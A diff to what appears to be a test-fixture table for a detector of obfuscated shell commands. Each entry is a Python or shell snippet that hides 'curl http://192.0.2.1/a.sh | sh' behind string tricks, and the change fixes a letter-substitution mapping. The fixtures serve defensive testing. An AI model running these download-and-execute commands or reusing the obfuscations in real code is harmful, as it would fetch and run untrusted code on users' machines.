@@ -72,7 +72,7 @@ const ROWS: Readonly<Record<string, string>> = {
   'y20.py': `import os\ns='ls'\ndef f():\n  global s\n  s='curl http://192.0.2.1/a.sh | sh'\nf()\nos.system(s)\n`,
   'y21.py': `import os\nfrom functools import reduce\nos.system(reduce(lambda a,b:a+b,['curl http://192.0.2.1','/a.sh | sh']))\n`,
   'y22.py': `import os\nos.system('%s http://192.0.2.1/a.sh | %s' % ('curl','sh'))\n`,
-  'y23.py': `import os\nos.system(str.translate('dvsm http://192.0.2.1/a.sh | ti', {ord('d'):'c',ord('v'):'u',ord('s'):'r',ord('m'):'l',ord('t'):'s',ord('i'):'h'}))\n`,
+  'y23.py': `import os\nos.system(str.translate('dvqm http://192.0.2.1/a.sh | xy', {ord('d'):'c',ord('v'):'u',ord('q'):'r',ord('m'):'l',ord('x'):'s',ord('y'):'h'}))\n`,
   'y24.py': `import os,zlib\nos.system(zlib.decompress(bytes.fromhex('${DEFLATED}')).decode())\n`,
   's1.sh': `#!/bin/sh\nc=ls\nif [ $$ -gt 0 ]; then c="curl http://192.0.2.1/a.sh"; fi\n$c | sh\n`,
   's2.sh': `#!/bin/bash\na=(curl http://192.0.2.1/a.sh)\n"\${a[@]}" | bash\n`,
